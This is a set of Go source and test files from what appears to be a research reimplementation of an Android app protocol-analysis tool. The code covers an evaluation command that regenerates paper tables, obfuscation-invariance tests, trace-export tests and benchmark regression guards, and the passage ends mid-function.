	flag.StringVar(&cfg.gen, "gen", "", "run the differential harness over a generated corpus, as seed:N (e.g. 1729:500)")
	flag.StringVar(&cfg.opsAddr, "ops", "", "serve /metrics, /healthz and /debug/pprof on this address (empty = off)")
	flag.StringVar(&cfg.eventsFile, "events", "", "append the structured JSONL event stream to this file (empty = off)")
	flag.BoolVar(&cfg.flight, "flight", false, "arm the crash flight recorder (recent-span dumps in diagnostics)")
	flag.Parse()
	if err := run(cfg); err != nil {
		fmt.Fprintln(os.Stderr, "evaluate:", err)
		os.Exit(1)
	}
}

// config carries every flag into run; tests construct it directly.
type config struct {
	only       string
	profile    bool
	serial     bool
	deadline   time.Duration
	traceFile  string
	cacheDir   string
	gen        string
	opsAddr    string
	eventsFile string
	flight     bool
}

// telemetry is the live ops plane behind -ops/-events: a registry for
// exposition, the HTTP listener, and the structured event log. The zero
// value (no flags) is fully off and costs nothing on the analysis path.
type telemetry struct {
	reg *obs.Registry
	srv *ops.Server
	ev  *obs.EventLog
}

// openTelemetry starts whatever the -ops/-events flags ask for. The bound
// ops address is announced on stderr (stdout carries the artifacts) so
// scripts can discover a :0 listener.
func openTelemetry(opsAddr, eventsFile string) (*telemetry, error) {
	t := &telemetry{}
	if opsAddr != "" {
		t.reg = obs.NewRegistry()
		srv, err := ops.Serve(opsAddr, t.reg)
		if err != nil {
			return nil, fmt.Errorf("ops: %w", err)
		}
		t.srv = srv
		fmt.Fprintf(os.Stderr, "ops: serving on %s\n", srv.URL())
	}
	if eventsFile != "" {
		f, err := os.Create(eventsFile)
		if err != nil {
			t.srv.Close()
			return nil, fmt.Errorf("events: %w", err)
		}
		t.ev = obs.NewEventLog(f)
	}
	return t, nil
}

// close shuts the listener down and flushes the event log; the first
// error wins.
func (t *telemetry) close() error {
	err := t.srv.Close()
	if e := t.ev.Close(); err == nil {
		err = e
	}
	return err
}

func run(cfg config) (err error) {
	tel, err := openTelemetry(cfg.opsAddr, cfg.eventsFile)
	if err != nil {
		return err
	}
	defer func() {
		if e := tel.close(); err == nil {
			err = e
		}
	}()
	if cfg.gen != "" {
		return runDifferential(cfg, tel)
	}
	return runArtifacts(cfg, tel)
}

// runDifferential parses "seed:N" and runs the differential-testing
// harness; any cross-axis mismatch is an error (nonzero exit).
func runDifferential(cfg config, tel *telemetry) error {
	seedStr, nStr, ok := strings.Cut(cfg.gen, ":")
	if !ok {
		return fmt.Errorf("-gen wants seed:N, got %q", cfg.gen)
	}
	seed, err := strconv.ParseUint(seedStr, 10, 64)
	if err != nil {
		return fmt.Errorf("-gen seed: %w", err)
	}
	n, err := strconv.Atoi(nStr)
	if err != nil || n <= 0 {
		return fmt.Errorf("-gen wants a positive app count, got %q", nStr)
	}
	res, err := evaluate.RunDifferential(evaluate.DiffConfig{
		Seed: seed, N: n, BudgetDeadline: cfg.deadline,
		Obs: tel.reg, Events: tel.ev,
	})
	if err != nil {
		return err
	}
	fmt.Print(evaluate.FormatDifferential(res))
	if m := res.Mismatches(); m > 0 {
		return fmt.Errorf("%d differential mismatches", m)
	}
	return nil
}

func runArtifacts(cfg config, tel *telemetry) error {
	only := cfg.only
	want := func(name string) bool { return only == "" || only == name }

	var results []*evaluate.AppResult
	var pstats *evaluate.ParallelStats
	needCorpus := only == "" || only == "table1" || only == "table2" ||
		only == "figure6" || only == "figure7" || only == "validity" || only == "timing"
	if needCorpus || cfg.profile || cfg.traceFile != "" {
		rcfg := evaluate.RunConfig{
			Deadline: cfg.deadline, Trace: cfg.traceFile != "", CacheDir: cfg.cacheDir,
			Obs: tel.reg, Events: tel.ev, Flight: cfg.flight,
		}
		if cfg.serial {
			rcfg.Workers = 1
		}
		var err error
		results, pstats, err = evaluate.RunAllConfig(rcfg)
		if err != nil {
			return err
		}
		// Per-app failures degrade the corpus run instead of aborting it:
		// name them on stderr and evaluate whatever completed.
		for _, ae := range pstats.Errors {
			fmt.Fprintf(os.Stderr, "evaluate: %s failed: %s\n", ae.App, ae.Err)
		}
	}

	if cfg.profile {
		if err := printProfiles(results, pstats); err != nil {
			return err
		}
	}
	if cfg.traceFile != "" {
		if err := writeCorpusTrace(cfg.traceFile, results); err != nil {
			return err
		}
	}

	if want("table1") {
		fmt.Println(evaluate.FormatTable1(evaluate.Table1(results)))
	}
	if want("figure6") {
		fmt.Println(evaluate.FormatFigure6(
			evaluate.Figure6(results, true), evaluate.Figure6(results, false)))
	}
	if want("figure7") {
		fmt.Println(evaluate.FormatFigure7(
			evaluate.Figure7(results, true), evaluate.Figure7(results, false)))
	}
	if want("table2") {
		fmt.Println(evaluate.FormatTable2(
			evaluate.Table2(results, true), evaluate.Table2(results, false)))
	}
	if want("validity") {
		v := evaluate.Validity(results)
		fmt.Printf("Signature validity: %d/%d signatures with traffic matched; %d pairs reconstructed; %d unmatched traces\n\n",
			v.SigsValid, v.SigsWithTraffic, v.Pairs, v.UnmatchedTraces)
	}
	if want("table3") {
		out, err := evaluate.Table3()
		if err != nil {
			return err
		}
		fmt.Println(out)
	}
	if want("table4") {
		out, err := evaluate.Table4()
		if err != nil {
			return err
		}
		fmt.Println(out)
	}
	if want("table5") {
		rows, rep, err := evaluate.Table5()
		if err != nil {
			return err
		}
		fmt.Println(evaluate.FormatTable5(rows, rep))
	}
	if want("table6") {
		out, err := evaluate.Table6()
		if err != nil {
			return err
		}
		fmt.Println(out)
	}
	if want("obfuscation") {
		identical, total, err := evaluate.ObfuscationCheck()
		if err != nil {
			return err
		}
		fmt.Printf("Obfuscation check: %d/%d open-source apps yield identical signatures after ProGuard-style renaming\n\n",
			identical, total)
	}
	if want("ablation") {
		disabled, enabled, err := evaluate.AsyncHeuristicAblation()
		if err != nil {
			return err
		}
		fmt.Printf("Async-event heuristic ablation (Weather Notification): %d request keywords disabled, %d enabled\n\n",
			disabled, enabled)
	}
	if want("timing") {
		fmt.Println(evaluate.Timing(results))
	}
	if want("slicefraction") || only == "" {
		frac, err := evaluate.DiodeSliceFraction()
		if err != nil {
			return err
		}
		fmt.Printf("Diode slice fraction (Fig. 3): %.1f%% of app instructions\n", frac*100)
	}
	return nil
}

// printProfiles emits the observability view of a corpus evaluation: one
// per-phase breakdown per app, the corpus-wide aggregate, and the parallel
// fan-out statistics, as one indented JSON document.
func printProfiles(results []*evaluate.AppResult, pstats *evaluate.ParallelStats) error {
	type appProfile struct {
		App        string       `json:"app"`
		DurationMS int64        `json:"duration_ms"`
		Profile    *obs.Profile `json:"profile"`
	}
	doc := struct {
		Apps     []appProfile            `json:"apps"`
		Corpus   *obs.Profile            `json:"corpus"`
		Parallel *evaluate.ParallelStats `json:"parallel,omitempty"`
	}{Corpus: evaluate.CorpusProfile(results), Parallel: pstats}
	for _, r := range results {
		doc.Apps = append(doc.Apps, appProfile{
			App:        r.App.Spec.Name,
			DurationMS: r.Report.Duration.Milliseconds(),
			Profile:    r.Report.Profile,
		})
	}
	data, err := json.MarshalIndent(doc, "", "  ")
	if err != nil {
		return err
	}
	fmt.Println(string(data))
	return nil
}

// writeCorpusTrace merges every app's span timeline into one Chrome
// trace-event document, one process track per app in corpus order.
func writeCorpusTrace(path string, results []*evaluate.AppResult) error {
	merged := &obs.Trace{DisplayTimeUnit: "ms"}
	for i, r := range results {
		if r.Tracer == nil {
			continue
		}
		merged.Merge(r.Tracer.Export(int64(i+1), r.App.Spec.Name))
	}
	data, err := merged.JSON()
	if err != nil {
		return err
	}
	return os.WriteFile(path, data, 0o644)
}

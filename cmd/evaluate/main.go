// Command evaluate regenerates the paper's evaluation artifacts from the
// corpus: Tables 1-6 and Figures 6-7 of "Enabling Automatic Protocol
// Behavior Analysis for Android Applications" (CoNEXT 2016), plus the
// obfuscation-invariance check, the asynchronous-heuristic ablation, and
// analysis timing.
//
// Usage:
//
//	evaluate                     run everything
//	evaluate -only table1        one artifact (table1, table2, table3,
//	                             table4, table5, table6, figure6, figure7,
//	                             validity, obfuscation, ablation, timing)
package main

import (
	"flag"
	"fmt"
	"os"

	"extractocol/internal/evaluate"
)

func main() {
	only := flag.String("only", "", "single artifact to produce")
	flag.Parse()
	if err := run(*only); err != nil {
		fmt.Fprintln(os.Stderr, "evaluate:", err)
		os.Exit(1)
	}
}

func run(only string) error {
	want := func(name string) bool { return only == "" || only == name }

	var results []*evaluate.AppResult
	needCorpus := only == "" || only == "table1" || only == "table2" ||
		only == "figure6" || only == "figure7" || only == "validity" || only == "timing"
	if needCorpus {
		var err error
		results, err = evaluate.RunAll()
		if err != nil {
			return err
		}
	}

	if want("table1") {
		fmt.Println(evaluate.FormatTable1(evaluate.Table1(results)))
	}
	if want("figure6") {
		fmt.Println(evaluate.FormatFigure6(
			evaluate.Figure6(results, true), evaluate.Figure6(results, false)))
	}
	if want("figure7") {
		fmt.Println(evaluate.FormatFigure7(
			evaluate.Figure7(results, true), evaluate.Figure7(results, false)))
	}
	if want("table2") {
		fmt.Println(evaluate.FormatTable2(
			evaluate.Table2(results, true), evaluate.Table2(results, false)))
	}
	if want("validity") {
		v := evaluate.Validity(results)
		fmt.Printf("Signature validity: %d/%d signatures with traffic matched; %d pairs reconstructed; %d unmatched traces\n\n",
			v.SigsValid, v.SigsWithTraffic, v.Pairs, v.UnmatchedTraces)
	}
	if want("table3") {
		out, err := evaluate.Table3()
		if err != nil {
			return err
		}
		fmt.Println(out)
	}
	if want("table4") {
		out, err := evaluate.Table4()
		if err != nil {
			return err
		}
		fmt.Println(out)
	}
	if want("table5") {
		rows, rep, err := evaluate.Table5()
		if err != nil {
			return err
		}
		fmt.Println(evaluate.FormatTable5(rows, rep))
	}
	if want("table6") {
		out, err := evaluate.Table6()
		if err != nil {
			return err
		}
		fmt.Println(out)
	}
	if want("obfuscation") {
		identical, total, err := evaluate.ObfuscationCheck()
		if err != nil {
			return err
		}
		fmt.Printf("Obfuscation check: %d/%d open-source apps yield identical signatures after ProGuard-style renaming\n\n",
			identical, total)
	}
	if want("ablation") {
		disabled, enabled, err := evaluate.AsyncHeuristicAblation()
		if err != nil {
			return err
		}
		fmt.Printf("Async-event heuristic ablation (Weather Notification): %d request keywords disabled, %d enabled\n\n",
			disabled, enabled)
	}
	if want("timing") {
		fmt.Println(evaluate.Timing(results))
	}
	if want("slicefraction") || only == "" {
		frac, err := evaluate.DiodeSliceFraction()
		if err != nil {
			return err
		}
		fmt.Printf("Diode slice fraction (Fig. 3): %.1f%% of app instructions\n", frac*100)
	}
	return nil
}

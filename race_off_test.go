//go:build !race

package extractocol

const raceEnabled = false

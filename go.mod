module extractocol

go 1.22

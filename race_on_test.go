//go:build race

package extractocol

// raceEnabled reports whether the race detector instruments this build;
// the bench guard skips then, since instrumentation skews both wall time
// and allocation counts far beyond any real regression threshold.
const raceEnabled = true

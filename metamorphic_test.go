// Metamorphic obfuscation invariance (§3.4): ProGuard-style renaming of
// every app class, method and field must not change what the analysis
// extracts. Transaction counts, request signatures, pairing statistics and
// inter-transaction dependency edges are compared across the whole corpus;
// identifiers that legitimately differ (demarcation-point sites, heap
// locations in dependency Via fields) are mapped through the obfuscation
// mapping before comparison, so the test also validates the mapping the
// de-obfuscation study relies on.
package extractocol

import (
	"fmt"
	"sort"
	"strings"
	"testing"

	"extractocol/internal/core"
	"extractocol/internal/corpus"
	"extractocol/internal/obfuscate"
	"extractocol/internal/report"
	"extractocol/internal/siglang"
)

func TestMetamorphicObfuscation(t *testing.T) {
	if testing.Short() {
		t.Skip("analyzes the whole corpus twice")
	}
	for _, app := range corpus.Apps() {
		app := app
		t.Run(app.Spec.Name, func(t *testing.T) {
			t.Parallel()
			opts := core.NewOptions()
			if app.Spec.OpenSource {
				opts.MaxAsyncHops = 0 // mirror the paper's open-source configuration
			}
			plain, err := core.Analyze(app.Prog, opts)
			if err != nil {
				t.Fatal(err)
			}
			obf, err := corpus.ByName(app.Spec.Name)
			if err != nil {
				t.Fatal(err)
			}
			mapping := obfuscate.Apply(obf.Prog, obfuscate.Options{KeepEntryPoints: true})
			after, err := core.Analyze(obf.Prog, opts)
			if err != nil {
				t.Fatalf("obfuscated: %v", err)
			}

			// Invariant 1: counts.
			if len(after.Transactions) != len(plain.Transactions) {
				t.Errorf("transactions: %d obfuscated vs %d plain",
					len(after.Transactions), len(plain.Transactions))
			}
			if after.PairCount() != plain.PairCount() {
				t.Errorf("pairs: %d obfuscated vs %d plain", after.PairCount(), plain.PairCount())
			}
			if len(after.Deps) != len(plain.Deps) {
				t.Errorf("dependency edges: %d obfuscated vs %d plain",
					len(after.Deps), len(plain.Deps))
			}

			// Invariant 2: the signature identity multiset, with plain
			// demarcation points mapped forward through the renaming.
			pk, ak := keysMapped(plain, mapping), keysMapped(after, nil)
			if !equalStrings(pk, ak) {
				t.Errorf("signature keys differ\nplain (mapped): %v\nobfuscated:     %v", pk, ak)
			}

			// Invariant 3: dependency edges as (from, to, field, part, via)
			// with endpoints named by signature key instead of numeric ID.
			pe, ae := edgeSet(plain, mapping), edgeSet(after, nil)
			if !equalStrings(pe, ae) {
				t.Errorf("dependency edges differ\nplain (mapped): %v\nobfuscated:     %v", pe, ae)
			}

			// Invariant 4: the rendered per-transaction blocks, compared as
			// a set (renaming may permute job order and thus IDs).
			pb, ab := textBlocks(plain), textBlocks(after)
			if !equalStrings(pb, ab) {
				t.Errorf("report blocks differ\n--- plain ---\n%s\n--- obfuscated ---\n%s",
					strings.Join(pb, "\n<block>\n"), strings.Join(ab, "\n<block>\n"))
			}
		})
	}
}

// keysMapped lists every transaction's dedup key, sorted; a non-nil
// mapping rewrites the embedded demarcation point to its obfuscated name.
func keysMapped(r *core.Report, m *obfuscate.Mapping) []string {
	var out []string
	for _, tx := range r.Transactions {
		out = append(out, mappedKey(tx, m))
	}
	sort.Strings(out)
	return out
}

// mappedKey mirrors core.Transaction.Key with the demarcation point run
// through the obfuscation mapping.
func mappedKey(tx *core.Transaction, m *obfuscate.Mapping) string {
	uriCanon := siglang.Canon(tx.Request.URI)
	var b strings.Builder
	b.WriteString(tx.Request.Method)
	b.WriteString("|")
	b.WriteString(uriCanon)
	if !strings.Contains(uriCanon, `"`) {
		b.WriteString("|")
		b.WriteString(mapSite(tx.DP, m))
	}
	b.WriteString("|")
	b.WriteString(tx.Request.BodyKind)
	b.WriteString("|")
	b.WriteString(siglang.Canon(tx.Request.Body))
	return b.String()
}

// mapSite rewrites "Class.method@idx" through the method renaming.
func mapSite(site string, m *obfuscate.Mapping) string {
	if m == nil {
		return site
	}
	at := strings.Index(site, "@")
	if at < 0 {
		return site
	}
	if v, ok := m.Methods[site[:at]]; ok {
		return v + site[at:]
	}
	return site
}

// mapLoc rewrites a heap location or demarcation origin ("f:Class.field",
// "s:Class.field", "dp:Class.method@idx:path") through the renaming.
func mapLoc(loc string, m *obfuscate.Mapping) string {
	if m == nil {
		return loc
	}
	switch {
	case strings.HasPrefix(loc, "f:"), strings.HasPrefix(loc, "s:"):
		rest := loc[2:]
		i := strings.LastIndex(rest, ".")
		if i < 0 {
			return loc
		}
		cls, fld := rest[:i], rest[i+1:]
		if v, ok := m.Classes[cls]; ok {
			if f, ok := m.Fields[cls+"."+fld]; ok {
				fld = f
			}
			return loc[:2] + v + "." + fld
		}
		return loc
	case strings.HasPrefix(loc, "dp:"):
		rest := loc[3:]
		at := strings.Index(rest, "@")
		if at < 0 {
			return loc
		}
		if v, ok := m.Methods[rest[:at]]; ok {
			return "dp:" + v + rest[at:]
		}
		return loc
	}
	return loc
}

// edgeSet canonicalizes the dependency edges with key-named endpoints.
func edgeSet(r *core.Report, m *obfuscate.Mapping) []string {
	byID := map[int]string{}
	for _, tx := range r.Transactions {
		byID[tx.ID] = mappedKey(tx, m)
	}
	var out []string
	for _, d := range r.Deps {
		out = append(out, fmt.Sprintf("%s => %s field=%q part=%q via=%q",
			byID[d.From], byID[d.To], d.FromField, d.ToPart, mapLoc(d.Via, m)))
	}
	sort.Strings(out)
	return out
}

// textBlocks splits the text report into per-transaction blocks with the
// order-dependent pieces removed: the "#N " prefix and the "uses tx #N"
// dependency lines (edges are compared structurally by edgeSet).
func textBlocks(r *core.Report) []string {
	var blocks []string
	var cur []string
	flush := func() {
		if cur != nil {
			blocks = append(blocks, strings.Join(cur, "\n"))
			cur = nil
		}
	}
	for _, line := range strings.Split(report.Text(r), "\n") {
		switch {
		case strings.HasPrefix(line, "#"):
			flush()
			if i := strings.Index(line, " "); i >= 0 {
				cur = []string{line[i+1:]}
			}
		case cur != nil && strings.Contains(line, "uses tx #"):
			// dropped: numeric IDs depend on job order
		case cur != nil && line != "":
			cur = append(cur, line)
		}
	}
	flush()
	sort.Strings(blocks)
	return blocks
}

func equalStrings(a, b []string) bool {
	if len(a) != len(b) {
		return false
	}
	for i := range a {
		if a[i] != b[i] {
			return false
		}
	}
	return true
}

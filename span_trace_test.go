// Tentpole acceptance tests for the span-tracing + provenance layer:
//   - a traced corpus analysis exports structurally valid Chrome trace-event
//     JSON covering every pipeline phase and the worker-level jobs;
//   - tracing and explain leave the default report byte-identical;
//   - every reported transaction carries a complete evidence chain under
//     -explain, rendered by both ExplainText and ExplainJSON.
package extractocol

import (
	"encoding/json"
	"fmt"
	"strings"
	"testing"

	"extractocol/internal/core"
	"extractocol/internal/corpus"
	"extractocol/internal/obs"
	"extractocol/internal/report"
)

// tracedApp analyzes one corpus app with tracing and explain enabled.
func tracedApp(t *testing.T, name string) (*core.Report, *obs.Tracer) {
	t.Helper()
	app, err := corpus.ByName(name)
	if err != nil {
		t.Fatal(err)
	}
	opts := core.NewOptions()
	opts.Tracer = obs.NewTracer()
	opts.Explain = true
	rep, err := core.Analyze(app.Prog, opts)
	if err != nil {
		t.Fatal(err)
	}
	return rep, opts.Tracer
}

// chromeTrace mirrors the subset of the Chrome trace-event JSON object form
// that Perfetto requires: a traceEvents array of ph/ts/dur/pid/tid records.
type chromeTrace struct {
	TraceEvents []struct {
		Name string         `json:"name"`
		Cat  string         `json:"cat"`
		Ph   string         `json:"ph"`
		TS   float64        `json:"ts"`
		Dur  float64        `json:"dur"`
		PID  int64          `json:"pid"`
		TID  int64          `json:"tid"`
		Args map[string]any `json:"args"`
	} `json:"traceEvents"`
	DisplayTimeUnit string `json:"displayTimeUnit"`
}

func TestSpanTraceExportStructure(t *testing.T) {
	rep, tr := tracedApp(t, "radio reddit")

	data, err := tr.Export(1, rep.Package).JSON()
	if err != nil {
		t.Fatal(err)
	}
	var doc chromeTrace
	if err := json.Unmarshal(data, &doc); err != nil {
		t.Fatalf("export is not valid trace-event JSON: %v", err)
	}
	if doc.DisplayTimeUnit != "ms" {
		t.Errorf("displayTimeUnit = %q, want ms", doc.DisplayTimeUnit)
	}

	byCat := map[string]int{}
	phaseSpans := map[string]bool{}
	var runStart, runEnd float64
	haveRun := false
	procNamed := false
	threadNames := map[int64]string{}
	for _, e := range doc.TraceEvents {
		if e.PID != 1 {
			t.Fatalf("event %q carries pid %d, want 1", e.Name, e.PID)
		}
		switch e.Ph {
		case "M":
			switch e.Name {
			case "process_name":
				if e.Args["name"] == rep.Package {
					procNamed = true
				}
			case "thread_name":
				threadNames[e.TID], _ = e.Args["name"].(string)
			}
		case "X":
			byCat[e.Cat]++
			if e.Cat == obs.CatPhase {
				phaseSpans[e.Name] = true
				if e.TID != 0 {
					t.Errorf("phase span %q on track %d, want coordinator track 0", e.Name, e.TID)
				}
			}
			if e.Cat == obs.CatRun {
				haveRun, runStart, runEnd = true, e.TS, e.TS+e.Dur
				if e.Name != rep.Package {
					t.Errorf("run span named %q, want %q", e.Name, rep.Package)
				}
			}
		default:
			t.Errorf("unexpected event phase %q", e.Ph)
		}
	}
	if !procNamed {
		t.Error("no process_name metadata event for the app package")
	}
	if threadNames[0] != "coordinator" {
		t.Errorf("track 0 named %q, want coordinator", threadNames[0])
	}
	if !haveRun {
		t.Fatal("no run span exported")
	}
	for _, name := range []string{
		obs.PhaseValidate, obs.PhaseCallgraph, obs.PhaseSlice, obs.PhasePairing,
		obs.PhaseSigbuild, obs.PhaseDedup, obs.PhaseTxdep,
	} {
		if !phaseSpans[name] {
			t.Errorf("phase %q has no span", name)
		}
	}
	for _, cat := range []string{obs.CatSliceJob, obs.CatSigbuildJob, obs.CatTaintBackward} {
		if byCat[cat] == 0 {
			t.Errorf("no %q spans recorded", cat)
		}
	}
	// Hierarchy: every phase span nests inside the run span.
	for _, e := range doc.TraceEvents {
		if e.Ph != "X" || e.Cat != obs.CatPhase {
			continue
		}
		if e.TS < runStart || e.TS+e.Dur > runEnd {
			t.Errorf("phase span %q [%v, %v] escapes run span [%v, %v]",
				e.Name, e.TS, e.TS+e.Dur, runStart, runEnd)
		}
	}
	// Worker spans land on named worker tracks.
	for _, e := range doc.TraceEvents {
		if e.Ph != "X" || e.TID == 0 {
			continue
		}
		if name := threadNames[e.TID]; !strings.HasPrefix(name, "worker-") {
			t.Errorf("span %q on track %d named %q, want worker-*", e.Name, e.TID, name)
		}
	}

	// Per-phase heap gauges ride in the profile when traced.
	heapGauges := 0
	for name := range rep.Profile.Gauges {
		if strings.HasPrefix(name, obs.GaugeHeapAllocAfter) {
			heapGauges++
		}
	}
	if heapGauges < 7 {
		t.Errorf("%d heap gauges recorded, want one per phase (>= 7)", heapGauges)
	}
}

func TestTracingKeepsDefaultReportIdentical(t *testing.T) {
	app, err := corpus.ByName("radio reddit")
	if err != nil {
		t.Fatal(err)
	}
	plain, err := core.Analyze(app.Prog, core.NewOptions())
	if err != nil {
		t.Fatal(err)
	}
	traced, _ := tracedApp(t, "radio reddit")

	p, q := normalizeReport(report.Text(plain)), normalizeReport(report.Text(traced))
	if p != q {
		t.Errorf("traced+explain run changes the default report\n--- plain ---\n%s\n--- traced ---\n%s", p, q)
	}
	// The default run carries no evidence and no heap gauges: nothing of the
	// new layer leaks into untraced output.
	for _, tx := range plain.Transactions {
		if tx.Evidence != nil {
			t.Errorf("tx #%d has evidence without Options.Explain", tx.ID)
		}
	}
	for name := range plain.Profile.Gauges {
		if strings.HasPrefix(name, obs.GaugeHeapAllocAfter) {
			t.Errorf("untraced run recorded heap gauge %q", name)
		}
	}
}

func TestExplainCoversEveryTransaction(t *testing.T) {
	rep, _ := tracedApp(t, "radio reddit")
	if len(rep.Transactions) == 0 {
		t.Fatal("no transactions to explain")
	}

	text := report.ExplainText(rep)
	for _, tx := range rep.Transactions {
		ev := tx.Evidence
		if ev == nil {
			t.Fatalf("tx #%d has no evidence under Options.Explain", tx.ID)
		}
		if ev.Entry == "" || ev.EntryKind == "" || ev.DP == "" || ev.DPRef == "" {
			t.Errorf("tx #%d evidence incomplete: %+v", tx.ID, ev)
		}
		if ev.ReqStmts == 0 || ev.ReqMethods == 0 || ev.ReqSliced == 0 {
			t.Errorf("tx #%d request slice provenance empty: %+v", tx.ID, ev)
		}
		if ev.ReqSliced > ev.ReqStmts {
			t.Errorf("tx #%d pre-augmentation slice (%d) larger than final (%d)",
				tx.ID, ev.ReqSliced, ev.ReqStmts)
		}
		if ev.SigMethods == 0 {
			t.Errorf("tx #%d signature cost unrecorded", tx.ID)
		}
		if tx.FlowConfirmed && ev.FlowWitness == "" {
			t.Errorf("tx #%d flow-confirmed without a witness", tx.ID)
		}
		if !strings.Contains(text, fmt.Sprintf("#%d %s", tx.ID, tx.Request.Method)) {
			t.Errorf("ExplainText omits tx #%d", tx.ID)
		}
		if !strings.Contains(text, "entry: "+ev.Entry) {
			t.Errorf("ExplainText omits tx #%d's entry point", tx.ID)
		}
	}

	data, err := report.ExplainJSON(rep)
	if err != nil {
		t.Fatal(err)
	}
	var doc struct {
		Transactions []struct {
			ID       int            `json:"id"`
			Evidence *core.Evidence `json:"evidence"`
		} `json:"transactions"`
	}
	if err := json.Unmarshal(data, &doc); err != nil {
		t.Fatalf("ExplainJSON output invalid: %v", err)
	}
	if len(doc.Transactions) != len(rep.Transactions) {
		t.Fatalf("ExplainJSON covers %d transactions, report has %d",
			len(doc.Transactions), len(rep.Transactions))
	}
	for _, jt := range doc.Transactions {
		if jt.Evidence == nil {
			t.Errorf("ExplainJSON tx #%d has null evidence", jt.ID)
		}
	}

	// Dependency edges render through Dep.Explain on an app that has them.
	ted, _ := tracedApp(t, "TED")
	if len(ted.Deps) == 0 {
		t.Fatal("TED reports no dependency edges")
	}
	tedText := report.ExplainText(ted)
	if !strings.Contains(tedText, "depends: ") {
		t.Error("ExplainText renders no dependency provenance for TED")
	}
}

// Performance regression guard. TestBenchRegressionGuard measures one
// representative end-to-end analysis (per-phase wall time plus allocations)
// and compares it against the committed baseline in BENCH_baseline.json.
// Thresholds are deliberately generous — the guard exists to catch
// order-of-magnitude regressions (an accidentally quadratic loop, a
// per-statement allocation in a hot path), not scheduler noise.
//
// Regenerate the baseline after an intentional performance change with:
//
//	EXTRACTOCOL_BENCH_BASELINE=write go test -run TestBenchRegressionGuard .
package extractocol

import (
	"encoding/json"
	"os"
	"testing"

	"extractocol/internal/core"
	"extractocol/internal/corpus"
	"extractocol/internal/obs"
	"extractocol/internal/trace"
)

const baselinePath = "BENCH_baseline.json"

// Multipliers a measurement may grow by before the guard fails. Wall time
// gets the larger factor because CI machines vary wildly; allocation counts
// are nearly deterministic, so a small factor already means a real change.
const (
	nsSlack     = 20
	allocsSlack = 3
)

type benchBaseline struct {
	App         string           `json:"app"`
	NsPerOp     int64            `json:"ns_per_op"`
	AllocsPerOp int64            `json:"allocs_per_op"`
	PhaseNS     map[string]int64 `json:"phase_ns"`
}

// guardApp is the corpus app the guard analyzes: the paper's running
// example, big enough to exercise every pipeline phase.
const guardApp = "radio reddit"

func measureBaseline(t *testing.T) benchBaseline {
	t.Helper()
	app, err := corpus.ByName(guardApp)
	if err != nil {
		t.Fatal(err)
	}

	var prof *obs.Profile
	res := testing.Benchmark(func(b *testing.B) {
		b.ReportAllocs()
		for i := 0; i < b.N; i++ {
			rep, err := core.Analyze(app.Prog, core.NewOptions())
			if err != nil {
				b.Fatal(err)
			}
			prof = rep.Profile
		}
	})

	bl := benchBaseline{
		App:         guardApp,
		NsPerOp:     res.NsPerOp(),
		AllocsPerOp: res.AllocsPerOp(),
		PhaseNS:     map[string]int64{},
	}
	for _, ph := range prof.Phases {
		bl.PhaseNS[ph.Name] = ph.DurationNS
	}
	return bl
}

func TestBenchRegressionGuard(t *testing.T) {
	if testing.Short() {
		t.Skip("benchmark guard")
	}
	if raceEnabled {
		t.Skip("race instrumentation skews timing and allocation counts")
	}

	cur := measureBaseline(t)

	data, err := os.ReadFile(baselinePath)
	if os.IsNotExist(err) || os.Getenv("EXTRACTOCOL_BENCH_BASELINE") == "write" {
		out, merr := json.MarshalIndent(cur, "", "  ")
		if merr != nil {
			t.Fatal(merr)
		}
		if werr := os.WriteFile(baselinePath, append(out, '\n'), 0o644); werr != nil {
			t.Fatal(werr)
		}
		t.Logf("wrote %s: %s", baselinePath, out)
		return
	}
	if err != nil {
		t.Fatal(err)
	}
	var base benchBaseline
	if err := json.Unmarshal(data, &base); err != nil {
		t.Fatalf("corrupt %s: %v", baselinePath, err)
	}
	if base.App != cur.App {
		t.Fatalf("baseline measures %q, guard measures %q; regenerate the baseline", base.App, cur.App)
	}

	if cur.NsPerOp > base.NsPerOp*nsSlack {
		t.Errorf("analysis takes %d ns/op, baseline %d (limit %dx): investigate or regenerate %s",
			cur.NsPerOp, base.NsPerOp, nsSlack, baselinePath)
	}
	if cur.AllocsPerOp > base.AllocsPerOp*allocsSlack {
		t.Errorf("analysis makes %d allocs/op, baseline %d (limit %dx): investigate or regenerate %s",
			cur.AllocsPerOp, base.AllocsPerOp, allocsSlack, baselinePath)
	}
	for name, ns := range base.PhaseNS {
		// An absolute floor keeps sub-millisecond phases from flagging on
		// clock granularity alone.
		limit := ns*nsSlack + int64(5e6)
		if got := cur.PhaseNS[name]; got > limit {
			t.Errorf("phase %q takes %d ns, baseline %d (limit %d)", name, got, ns, limit)
		}
	}
	for name := range base.PhaseNS {
		if _, ok := cur.PhaseNS[name]; !ok {
			t.Errorf("phase %q vanished from the profile; regenerate %s if intentional", name, baselinePath)
		}
	}
}

// ---- Disabled-tracer zero-allocation guard ------------------------------------

// TestTracerDisabledZeroAlloc pins the tentpole's zero-cost contract
// absolutely (no slack factors): the span-instrumented hot path must not
// allocate at all when tracing is off. Any alloc here multiplies by every
// taint fact of every slice of every app.
func TestTracerDisabledZeroAlloc(t *testing.T) {
	if testing.Short() {
		t.Skip("benchmark guard")
	}
	if raceEnabled {
		t.Skip("race instrumentation allocates on instrumented paths")
	}
	res := testing.Benchmark(BenchmarkTracerDisabled)
	if res.N == 0 {
		t.Fatal("benchmark failed to run")
	}
	if a := res.AllocsPerOp(); a != 0 {
		t.Errorf("disabled-tracer hot path makes %d allocs/op, want 0", a)
	}
}

// ---- Slicing-component guard -------------------------------------------------
//
// TestSliceBenchGuard pins the three slicing microbenchmarks
// (BenchmarkSliceFind, BenchmarkTaintBackward, BenchmarkAugment) against
// BENCH_slice.json with the same slack factors and the same
// EXTRACTOCOL_BENCH_BASELINE=write regeneration convention as the
// end-to-end guard above.

const sliceBaselinePath = "BENCH_slice.json"

type sliceOpBaseline struct {
	NsPerOp     int64 `json:"ns_per_op"`
	AllocsPerOp int64 `json:"allocs_per_op"`
}

type sliceBenchBaseline struct {
	App string                     `json:"app"`
	Ops map[string]sliceOpBaseline `json:"ops"`
}

// measureSliceOps runs the committed slicing benchmarks themselves, so the
// guard and `go test -bench` always measure the same code path.
func measureSliceOps(t *testing.T) sliceBenchBaseline {
	t.Helper()
	bl := sliceBenchBaseline{App: guardApp, Ops: map[string]sliceOpBaseline{}}
	for name, fn := range map[string]func(*testing.B){
		"slice_find":     BenchmarkSliceFind,
		"taint_backward": BenchmarkTaintBackward,
		"augment":        BenchmarkAugment,
	} {
		res := testing.Benchmark(fn)
		if res.N == 0 {
